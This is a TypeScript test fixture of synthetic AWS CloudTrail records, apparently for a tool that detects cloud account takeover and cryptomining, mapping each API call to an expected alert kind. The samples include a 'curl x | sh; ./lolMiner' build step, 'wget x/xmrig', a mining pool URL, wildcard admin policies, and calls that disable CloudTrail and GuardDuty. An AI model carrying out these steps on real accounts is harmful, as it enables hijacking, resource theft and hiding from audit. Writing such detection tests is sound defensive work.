/** One record for each entry of takeover-apis.txt, in the shape CloudTrail gives it. */
import type { Kind } from '../../../../src/checks/observation.ts';
import { account, record, root } from './records.ts';

type Expected = { event: object; kind: Kind; says?: object };
const arn = (service: string, rest: string, region = 'us-east-1') => `arn:aws:${service}:${region}:${account}:${rest}`;
const made = (call: string, requestParameters: object, responseElements: object | null = null, more: object = {}) =>
  record(call, { requestParameters, responseElements, ...more });
const policy = (name: string) => `arn:aws:iam::aws:policy/${name}`;

export const takeoverRecords: Record<string, Expected> = {
  RunInstances: {
    event: made(
      'ec2:RunInstances',
      { instancesSet: { items: [{ imageId: 'ami-1', minCount: 20, maxCount: 20 }] }, instanceType: 'c5a.24xlarge' },
      { reservationId: 'r-1', instancesSet: { items: [{ instanceId: 'i-0aaaaaaaaaaaaaaa1', instanceType: 'c5a.24xlarge' }] } },
    ),
    kind: 'compute.asked',
    says: { shape: { type: 'c5a.24xlarge', vcpus: 96 } },
  },
  StartInstances: {
    event: made(
      'ec2:StartInstances',
      { instancesSet: { items: [{ instanceId: 'i-0aaaaaaaaaaaaaaa1' }] } },
      { instancesSet: { items: [{ instanceId: 'i-0aaaaaaaaaaaaaaa1', currentState: { code: 0, name: 'pending' } }] } },
    ),
    kind: 'compute.asked',
    says: { count: 1 },
  },
  RequestSpotInstances: {
    event: made('ec2:RequestSpotInstances', { instanceCount: 8, launchSpecification: { instanceType: 'g4dn.12xlarge' } }),
    kind: 'compute.asked',
    says: { count: 8, shape: { spot: true } },
  },
  RequestSpotFleet: {
    event: made(
      'ec2:RequestSpotFleet',
      { spotFleetRequestConfig: { targetCapacity: 50, type: 'maintain', launchSpecifications: [{ instanceType: 'c5.18xlarge' }] } },
      { spotFleetRequestId: 'sfr-1' },
    ),
    kind: 'compute.asked',
    says: { count: 50 },
  },
  CreateFleet: {
    event: made(
      'ec2:CreateFleet',
      {
        CreateFleetRequest: {
          Type: 'maintain',
          TargetCapacitySpecification: { TotalTargetCapacity: 100, DefaultTargetCapacityType: 'on-demand' },
          LaunchTemplateConfigs: {
            LaunchTemplateSpecification: { LaunchTemplateId: 'lt-1', Version: 1 },
            Overrides: { InstanceType: 'c5.24xlarge', tag: 1 },
            tag: 1,
          },
        },
      },
      { CreateFleetResponse: { fleetId: 'fleet-1' } },
    ),
    kind: 'compute.asked',
    says: { count: 100, from: `resource:${arn('ec2', 'launch-template/lt-1')}` },
  },
  CreateLaunchTemplate: {
    event: made(
      'ec2:CreateLaunchTemplate',
      {
        CreateLaunchTemplateRequest: {
          LaunchTemplateName: 'web',
          LaunchTemplateData: { InstanceType: 'g5.48xlarge', UserData: '<sensitiveDataRemoved>' },
        },
      },
      { CreateLaunchTemplateResponse: { launchTemplate: { launchTemplateId: 'lt-1', launchTemplateName: 'web' } } },
    ),
    kind: 'workload.defined',
    says: { resource: `resource:${arn('ec2', 'launch-template/lt-1')}`, shape: { gpus: 8 } },
  },
  CreateAutoScalingGroup: {
    event: made('autoscaling:CreateAutoScalingGroup', {
      autoScalingGroupName: 'asg-1',
      minSize: 20,
      maxSize: 999,
      launchTemplate: { launchTemplateId: 'lt-1', version: '$Latest' },
    }),
    kind: 'launcher.changed',
    says: { desired: 20, most: 999 },
  },
  UpdateAutoScalingGroup: {
    event: made('autoscaling:UpdateAutoScalingGroup', { autoScalingGroupName: 'web', maxSize: 500, desiredCapacity: 400 }),
    kind: 'launcher.changed',
    says: { desired: 400, most: 500 },
  },
  RegisterTaskDefinition: {
    event: made(
      'ecs:RegisterTaskDefinition',
      {
        family: 'jobs',
        cpu: '16384',
        memory: '32768',
        networkMode: 'awsvpc',
        requiresCompatibilities: ['FARGATE'],
        containerDefinitions: [
          { name: 'a', image: 'somebody/worker:latest', command: ['-o', 'stratum+tcp://pool.example.com:3333', '-u', 'x'], cpu: 0 },
        ],
      },
      { taskDefinition: { taskDefinitionArn: arn('ecs', 'task-definition/jobs:1') } },
    ),
    kind: 'workload.defined',
    says: {
      resource: `resource:${arn('ecs', 'task-definition/jobs:1')}`,
      service: 'ECS',
      shape: { vcpus: 16 },
      imageFrom: 'public',
      markers: [{ kind: 'pool', word: 'stratum+tcp://pool.example.com:3333' }],
    },
  },
  RunTask: {
    event: made(
      'ecs:RunTask',
      { cluster: 'c1', count: 10, launchType: 'FARGATE', taskDefinition: 'jobs' },
      {
        tasks: [
          {
            taskArn: arn('ecs', 'task/c1/0123456789abcdef0123456789abcdef'),
            clusterArn: arn('ecs', 'cluster/c1'),
            taskDefinitionArn: arn('ecs', 'task-definition/jobs:1'),
            cpu: '16384',
            memory: '32768',
          },
        ],
        failures: [],
      },
    ),
    kind: 'compute.asked',
    says: {
      service: 'ECS',
      from: `resource:${arn('ecs', 'task-definition/jobs:1')}`,
      shape: { vcpus: 16 },
      resources: [`resource:${arn('ecs', 'task/c1/0123456789abcdef0123456789abcdef')}`],
    },
  },
  CreateService: {
    event: made('ecs:CreateService', {
      cluster: 'c1',
      serviceName: 's1',
      taskDefinition: 'jobs:1',
      desiredCount: 10,
      launchType: 'FARGATE',
    }),
    kind: 'compute.asked',
    says: { service: 'ECS', count: 10, from: `resource:${arn('ecs', 'task-definition/jobs:1')}` },
  },
  UpdateService: {
    event: made('ecs:UpdateService', { cluster: 'c1', service: 's1', desiredCount: 60 }),
    kind: 'launcher.changed',
    says: { resource: `resource:${arn('ecs', 'service/c1/s1')}`, most: 60, service: 'ECS' },
  },
  'ecs:CreateCluster': {
    event: made('ecs:CreateCluster', { clusterName: 'c1' }, { cluster: { clusterArn: arn('ecs', 'cluster/c1'), status: 'ACTIVE' } }),
    kind: 'ground.prepared',
    says: { resource: `resource:${arn('ecs', 'cluster/c1')}`, service: 'ECS' },
  },
  CreateTrainingJob: {
    event: made(
      'sagemaker:CreateTrainingJob',
      {
        trainingJobName: 'Train-1',
        algorithmSpecification: { trainingImage: 'docker.io/somebody/xmrig:6', trainingInputMode: 'File' },
        resourceConfig: { instanceType: 'ml.g5.48xlarge', instanceCount: 4, volumeSizeInGB: 50 },
      },
      { trainingJobArn: arn('sagemaker', 'training-job/train-1') },
    ),
    kind: 'compute.asked',
    says: { service: 'SageMaker', count: 4, shape: { type: 'g5.48xlarge', gpus: 8 }, imageFrom: 'public' },
  },
  CreateProcessingJob: {
    event: made('sagemaker:CreateProcessingJob', {
      processingJobName: 'p1',
      processingResources: { clusterConfig: { instanceCount: 2, instanceType: 'ml.c5.18xlarge', volumeSizeInGB: 30 } },
      appSpecification: { imageUri: `${account}.dkr.ecr.us-east-1.amazonaws.com/x:1` },
    }),
    kind: 'compute.asked',
    says: { count: 2, imageFrom: 'own' },
  },
  CreateNotebookInstance: {
    event: made(
      'sagemaker:CreateNotebookInstance',
      { notebookInstanceName: 'nb', instanceType: 'ml.p3.2xlarge' },
      { notebookInstanceArn: arn('sagemaker', 'notebook-instance/nb') },
    ),
    kind: 'compute.asked',
    says: { resources: [`resource:${arn('sagemaker', 'notebook-instance/nb')}`], shape: { family: 'p3', gpus: 1 } },
  },
  CreateEndpoint: {
    event: made('sagemaker:CreateEndpoint', { endpointName: 'E1', endpointConfigName: 'cfg' }),
    kind: 'compute.asked',
    says: { resources: [`resource:${arn('sagemaker', 'endpoint/e1')}`], from: `resource:${arn('sagemaker', 'endpoint-config/cfg')}` },
  },
  SubmitJob: {
    event: made(
      'batch:SubmitJob',
      { jobName: 'j', jobQueue: 'q', jobDefinition: 'd:1', arrayProperties: { size: 500 } },
      { jobArn: arn('batch', 'job/1111'), jobId: '1111', jobName: 'j' },
    ),
    kind: 'compute.asked',
    says: { service: 'Batch', count: 500, from: `resource:${arn('batch', 'job-definition/d:1')}` },
  },
  CreateComputeEnvironment: {
    event: made(
      'batch:CreateComputeEnvironment',
      {
        computeEnvironmentName: 'ce',
        type: 'MANAGED',
        computeResources: { type: 'EC2', minvCpus: 0, maxvCpus: 9600, instanceTypes: ['c5.24xlarge'] },
      },
      { computeEnvironmentName: 'ce', computeEnvironmentArn: arn('batch', 'compute-environment/ce') },
    ),
    kind: 'launcher.changed',
    says: { service: 'Batch', most: 100 },
  },
  lightsail: {
    event: made('lightsail:CreateInstances', { instanceNames: ['w1', 'w2'], bundleId: '2xlarge_3_0', availabilityZone: 'us-east-1a' }),
    kind: 'compute.asked',
    says: { service: 'Lightsail', count: 2, shape: { vcpus: 8 } },
  },
  CreateNodegroup: {
    event: made('eks:CreateNodegroup', {
      name: 'cl',
      nodegroupName: 'ng',
      scalingConfig: { minSize: 10, maxSize: 100, desiredSize: 20 },
      instanceTypes: ['c5.24xlarge'],
    }),
    kind: 'compute.asked',
    says: { service: 'EKS', count: 20, shape: { vcpus: 96 } },
  },
  RunJobFlow: {
    event: made(
      'elasticmapreduce:RunJobFlow',
      {
        name: 'x',
        instances: {
          instanceGroups: [
            { instanceRole: 'MASTER', instanceType: 'm5.xlarge', instanceCount: 1 },
            { instanceRole: 'CORE', instanceType: 'c5.24xlarge', instanceCount: 19 },
          ],
        },
      },
      { jobFlowId: 'j-1ABCDEF' },
    ),
    kind: 'compute.asked',
    says: { service: 'EMR', count: 20, shape: { type: 'c5.24xlarge' } },
  },
  'codebuild:CreateProject': {
    event: made(
      'codebuild:CreateProject',
      {
        name: 'p',
        source: { type: 'NO_SOURCE', buildspec: 'phases: {build: {commands: [wget x/xmrig]}}' },
        environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:7.0', computeType: 'BUILD_GENERAL1_2XLARGE' },
      },
      { project: { arn: arn('codebuild', 'project/p') } },
    ),
    kind: 'workload.defined',
    says: { service: 'CodeBuild', shape: { vcpus: 72 }, imageFrom: 'provider', markers: [{ kind: 'miner', word: 'xmrig' }] },
  },
  StartBuild: {
    event: made(
      'codebuild:StartBuild',
      { projectName: 'p' },
      { build: { arn: arn('codebuild', 'build/p:1'), environment: { computeType: 'BUILD_GENERAL1_2XLARGE' } } },
    ),
    kind: 'compute.asked',
    says: { service: 'CodeBuild', from: `resource:${arn('codebuild', 'project/p')}` },
  },
  amplify: {
    event: made(
      'amplify:CreateApp',
      { name: 'a', buildSpec: 'curl x | sh; ./lolMiner' },
      { app: { appId: 'd1', appArn: arn('amplify', 'apps/d1') } },
    ),
    kind: 'workload.defined',
    says: { service: 'Amplify', resource: `resource:${arn('amplify', 'apps/d1')}` },
  },
  apprunner: {
    event: made(
      'apprunner:CreateService',
      {
        serviceName: 's',
        sourceConfiguration: { imageRepository: { imageIdentifier: 'public.ecr.aws/somebody/x:1', imageRepositoryType: 'ECR_PUBLIC' } },
        instanceConfiguration: { cpu: '4 vCPU', memory: '12 GB' },
      },
      { service: { serviceArn: arn('apprunner', 'service/s/0123') } },
    ),
    kind: 'compute.asked',
    says: { service: 'App Runner', shape: { vcpus: 4 }, imageFrom: 'public' },
  },
  gamelift: {
    event: made(
      'gamelift:CreateFleet',
      { name: 'f', eC2InstanceType: 'c5.9xlarge', fleetType: 'ON_DEMAND', buildId: 'build-1' },
      { fleetAttributes: { fleetId: 'fleet-1' } },
    ),
    kind: 'compute.asked',
    says: { service: 'GameLift', shape: { type: 'c5.9xlarge' } },
  },
  workspaces: {
    event: made(
      'workspaces:CreateWorkspaces',
      {
        workspaces: [
          { directoryId: 'd-1', userName: 'x', bundleId: 'wsb-1', workspaceProperties: { computeTypeName: 'GRAPHICSPRO_G4DN' } },
        ],
      },
      { pendingRequests: [{ workspaceId: 'ws-1' }] },
    ),
    kind: 'compute.asked',
    says: { service: 'WorkSpaces', count: 1, shape: { gpus: 1 } },
  },
  CreateStackSet: {
    event: made('cloudformation:CreateStackSet', { stackSetName: 'ss', permissionModel: 'SELF_MANAGED' }, { stackSetId: 'ss:1' }),
    kind: 'workload.defined',
    says: { service: 'CloudFormation' },
  },
  CreateStackInstances: {
    event: made('cloudformation:CreateStackInstances', {
      stackSetName: 'ss',
      accounts: [account],
      regions: ['us-east-1', 'eu-west-1', 'ap-south-1'],
    }),
    kind: 'compute.asked',
    says: { service: 'CloudFormation', count: 3 },
  },
  CreateFunction20150331: {
    event: made(
      'lambda:CreateFunction20150331',
      { functionName: 'f', memorySize: 10240, timeout: 900, packageType: 'Zip', code: {} },
      { functionArn: arn('lambda', 'function:f'), functionName: 'f' },
    ),
    kind: 'workload.defined',
    says: { service: 'Lambda', resource: `resource:${arn('lambda', 'function:f')}` },
  },
  CreateFunctionUrlConfig: {
    event: made(
      'lambda:CreateFunctionUrlConfig',
      { functionName: 'f', authType: 'NONE' },
      { functionArn: arn('lambda', 'function:f'), authType: 'NONE' },
    ),
    kind: 'trust.opened',
    says: { door: 'function', to: '*', unconditional: true },
  },
  PutProvisionedConcurrency: {
    event: made('lambda:PutProvisionedConcurrencyConfig', { functionName: 'f', qualifier: '1', provisionedConcurrentExecutions: 900 }),
    kind: 'launcher.changed',
    says: { service: 'Lambda', most: 900 },
  },
  CreateDevEndpoint: {
    event: made('glue:CreateDevEndpoint', { endpointName: 'e', roleArn: 'r', workerType: 'G.2X', numberOfWorkers: 50 }),
    kind: 'compute.asked',
    says: { service: 'Glue', count: 50, shape: { vcpus: 8 } },
  },
  'glue:CreateJob': {
    event: made(
      'glue:CreateJob',
      { name: 'j', command: { name: 'pythonshell', scriptLocation: 's3://b/x.py' }, workerType: 'G.1X', numberOfWorkers: 10 },
      { name: 'j' },
    ),
    kind: 'workload.defined',
    says: { service: 'Glue' },
  },
  EnableRegion: {
    event: made('account:EnableRegion', { RegionName: 'af-south-1' }),
    kind: 'region.opened',
    says: { region: 'af-south-1' },
  },
  GetServiceQuota: {
    event: made('servicequotas:GetServiceQuota', { serviceCode: 'ec2', quotaCode: 'L-1216C47A' }, null, { readOnly: true }),
    kind: 'looked.around',
    says: { what: 'limits' },
  },
  RequestServiceQuotaIncrease: {
    event: made(
      'servicequotas:RequestServiceQuotaIncrease',
      { serviceCode: 'ec2', quotaCode: 'L-1216C47A', desiredValue: 1000 },
      {
        requestedQuota: {
          id: 'abc123',
          serviceCode: 'ec2',
          quotaCode: 'L-1216C47A',
          quotaName: 'Running On-Demand Standard (A, C, D, H, I, M, R, T, Z) instances',
          desiredValue: 1000,
          status: 'PENDING',
        },
      },
    ),
    kind: 'quota.asked',
    says: { service: 'ec2', of: 'compute', wanted: 1000, state: 'asked', deed: 'quota-request/abc123' },
  },
  ListServiceQuotas: {
    event: made('servicequotas:ListServiceQuotas', { serviceCode: 'ec2' }, null, { readOnly: true }),
    kind: 'looked.around',
    says: { what: 'limits' },
  },
  DescribeRegions: {
    event: made('ec2:DescribeRegions', { regionSet: {}, allRegions: true }, null, { readOnly: true }),
    kind: 'looked.around',
    says: { what: 'regions' },
  },
  GetCallerIdentity: { event: record('sts:GetCallerIdentity', { readOnly: true }), kind: 'looked.around', says: { what: 'self' } },
  DryRun: {
    event: made('ec2:RunInstances', { instancesSet: { items: [{ maxCount: 1 }] }, instanceType: 'c5.large' }, null, {
      errorCode: 'Client.DryRunOperation',
      errorMessage: 'Request would have succeeded, but DryRun flag is set.',
    }),
    kind: 'compute.refused',
    says: { why: 'dry run' },
  },
  VcpuLimitExceeded: {
    event: made('ec2:RunInstances', { instancesSet: { items: [{ maxCount: 1 }] }, instanceType: 'p3.16xlarge' }, null, {
      errorCode: 'Client.VcpuLimitExceeded',
      errorMessage: 'You have requested more vCPU capacity than your current vCPU limit of 0 allows',
    }),
    kind: 'compute.refused',
    says: { why: 'quota' },
  },
  CreateUser: {
    event: made('iam:CreateUser', { userName: 'x' }, { user: { userName: 'x', arn: `arn:aws:iam::${account}:user/x` } }),
    kind: 'identity.created',
    says: { subject: `principal:arn:aws:iam::${account}:user/x` },
  },
  CreateAccessKey: {
    event: made(
      'iam:CreateAccessKey',
      { userName: 'x' },
      { accessKey: { userName: 'x', accessKeyId: 'AKIAI44QH8DHBEXAMPLE', status: 'Active' } },
    ),
    kind: 'credential.created',
    says: { form: 'key' },
  },
  CreateLoginProfile: {
    event: made('iam:CreateLoginProfile', { userName: 'x', passwordResetRequired: false }, { loginProfile: { userName: 'x' } }),
    kind: 'credential.created',
    says: { form: 'password' },
  },
  UpdateLoginProfile: { event: made('iam:UpdateLoginProfile', { userName: 'x' }), kind: 'credential.created', says: { form: 'password' } },
  AttachUserPolicy: {
    event: made('iam:AttachUserPolicy', { userName: 'x', policyArn: policy('AdministratorAccess') }),
    kind: 'access.granted',
    says: { level: 'admin' },
  },
  PutUserPolicy: {
    event: made('iam:PutUserPolicy', {
      userName: 'x',
      policyName: 'p',
      policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
    }),
    kind: 'access.granted',
    says: { level: 'admin' },
  },
  UpdateAssumeRolePolicy: {
    event: made('iam:UpdateAssumeRolePolicy', {
      roleName: 'r',
      policyDocument: '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::210987654321:root"},"Action":"sts:AssumeRole"}]}',
    }),
    kind: 'trust.opened',
    says: { to: '210987654321', unconditional: true },
  },
  CreateRole: {
    event: made(
      'iam:CreateRole',
      { roleName: 'r', assumeRolePolicyDocument: '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}' },
      { role: { roleName: 'r', arn: `arn:aws:iam::${account}:role/r` } },
    ),
    kind: 'principal.acted',
  },
  CreateOpenIDConnectProvider: {
    event: made(
      'iam:CreateOpenIDConnectProvider',
      { url: 'https://idp.example.com', clientIDList: ['sts'] },
      { openIDConnectProviderArn: `arn:aws:iam::${account}:oidc-provider/idp.example.com` },
    ),
    kind: 'credential.created',
    says: { form: 'federation' },
  },
  CreateSAMLProvider: {
    event: made('iam:CreateSAMLProvider', { name: 'x' }, { sAMLProviderArn: `arn:aws:iam::${account}:saml-provider/x` }),
    kind: 'credential.created',
    says: { form: 'federation' },
  },
  GetFederationToken: {
    event: made(
      'sts:GetFederationToken',
      { name: 'x', durationSeconds: 129600 },
      { credentials: { accessKeyId: 'ASIAI44QH8DHBEXAMPLE' }, federatedUser: { arn: `arn:aws:sts::${account}:federated-user/x` } },
    ),
    kind: 'signed.in',
    says: { how: 'key' },
  },
  StopLogging: { event: made('cloudtrail:StopLogging', { name: 'main' }), kind: 'guard.weakened', says: { guard: 'audit log' } },
  DeleteTrail: { event: made('cloudtrail:DeleteTrail', { name: 'main' }), kind: 'guard.weakened', says: { guard: 'audit log' } },
  PutEventSelectors: {
    event: made('cloudtrail:PutEventSelectors', {
      trailName: 'main',
      eventSelectors: [{ readWriteType: 'All', includeManagementEvents: false, dataResources: [], excludeManagementEventSources: [] }],
    }),
    kind: 'guard.weakened',
    says: { guard: 'audit log' },
  },
  DeleteDetector: {
    event: made('guardduty:DeleteDetector', { detectorId: 'd1' }),
    kind: 'guard.weakened',
    says: { guard: 'threat detector' },
  },
  UpdateDetector: {
    event: made('guardduty:UpdateDetector', { detectorId: 'd1', enable: false }),
    kind: 'guard.weakened',
    says: { guard: 'threat detector' },
  },
  disableApiTermination: {
    event: made(
      'ec2:ModifyInstanceAttribute',
      { instanceId: 'i-0aaaaaaaaaaaaaaa1', attribute: 'disableApiTermination', value: '<sensitiveDataRemoved>' },
      { requestId: 'r', _return: true },
    ),
    kind: 'protection.set',
    says: { against: 'ending' },
  },
  ModifyInstanceAttribute: {
    event: made('ec2:ModifyInstanceAttribute', { instanceId: 'i-0aaaaaaaaaaaaaaa1', disableApiStop: { value: true } }, { _return: true }),
    kind: 'protection.set',
    says: { against: 'stopping', resources: [`resource:${arn('ec2', 'instance/i-0aaaaaaaaaaaaaaa1')}`] },
  },
  DeleteRule: {
    event: made('events:DeleteRule', { name: 'cloudwarden-events', force: false }),
    kind: 'guard.weakened',
    says: { guard: 'ourselves', resource: `resource:${arn('events', 'rule/cloudwarden-events')}` },
  },
  DeleteBudget: {
    event: made('budgets:DeleteBudget', { accountId: account, budgetName: 'monthly' }),
    kind: 'guard.weakened',
    says: { guard: 'budget' },
  },
  DeleteAnomalyMonitor: {
    event: made('ce:DeleteAnomalyMonitor', { monitorArn: `arn:aws:ce::${account}:anomalymonitor/1` }),
    kind: 'guard.weakened',
    says: { guard: 'budget' },
  },
  DeleteAnomalySubscription: {
    event: made('ce:DeleteAnomalySubscription', { subscriptionArn: `arn:aws:ce::${account}:anomalysubscription/1` }),
    kind: 'guard.weakened',
    says: { guard: 'budget' },
  },
  DeleteAlarms: { event: made('monitoring:DeleteAlarms', { alarmNames: ['billing'] }), kind: 'guard.weakened', says: { guard: 'alarm' } },
  LeaveOrganization: { event: record('organizations:LeaveOrganization'), kind: 'organization.changed', says: { how: 'left' } },
  DeactivateMFADevice: {
    event: made('iam:DeactivateMFADevice', { userName: 'ada', serialNumber: `arn:aws:iam::${account}:mfa/ada` }),
    kind: 'second-factor.changed',
    says: { how: 'removed', owner: `principal:arn:aws:iam::${account}:user/ada` },
  },
  CompromisedKeyQuarantine: {
    event: made('iam:AttachUserPolicy', { userName: 'ada', policyArn: policy('AWSCompromisedKeyQuarantineV3') }),
    kind: 'provider.alerted',
    says: { about: 'leak', severity: 'critical' },
  },
  AcceptAgreementRequest: {
    event: made('agreement-marketplace:AcceptAgreementRequest', { agreementRequestId: 'areq-1' }, { agreementId: 'agmt-1' }),
    kind: 'commitment.bought',
  },
  InvokeModel: {
    event: made('bedrock:InvokeModel', { modelId: 'meta.llama2-13b-chat-v1' }, null, { readOnly: true }),
    kind: 'model.used',
    says: { how: 'call', model: 'meta.llama2-13b-chat-v1' },
  },
  PutFoundationModelEntitlement: {
    event: made('bedrock:PutFoundationModelEntitlement', { modelId: 'meta.llama2-13b-chat-v1' }, { status: 'SUCCESS' }),
    kind: 'model.used',
    says: { how: 'grant' },
  },
  PasswordRecovery: {
    event: record('signin:PasswordRecoveryRequested', {
      eventType: 'AwsConsoleSignIn',
      userIdentity: { ...root, accessKeyId: '' },
      responseElements: { PasswordRecoveryRequested: 'Success' },
    }),
    kind: 'owner.changed',
    says: { what: 'recovery' },
  },
  ConsoleLogin: {
    event: record('signin:ConsoleLogin', {
      eventType: 'AwsConsoleSignIn',
      userIdentity: { ...root, accessKeyId: '' },
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: { LoginTo: 'https://console.aws.amazon.com/', MobileVersion: 'No', MFAUsed: 'No' },
    }),
    kind: 'signed.in',
    says: { how: 'password', mfa: false },
  },
  PurchaseReservedInstancesOffering: {
    event: made(
      'ec2:PurchaseReservedInstancesOffering',
      { reservedInstancesOfferingId: '1', instanceCount: 10 },
      { reservedInstancesId: '2' },
    ),
    kind: 'commitment.bought',
  },
  CreateSavingsPlan: {
    event: made(
      'savingsplans:CreateSavingsPlan',
      { savingsPlanOfferingId: '1', commitment: '10.0', upfrontPaymentAmount: '5000' },
      { savingsPlanId: '2' },
    ),
    kind: 'commitment.bought',
    says: { once: { amount: 5000, currency: 'USD', usd: 5000 } },
  },
};
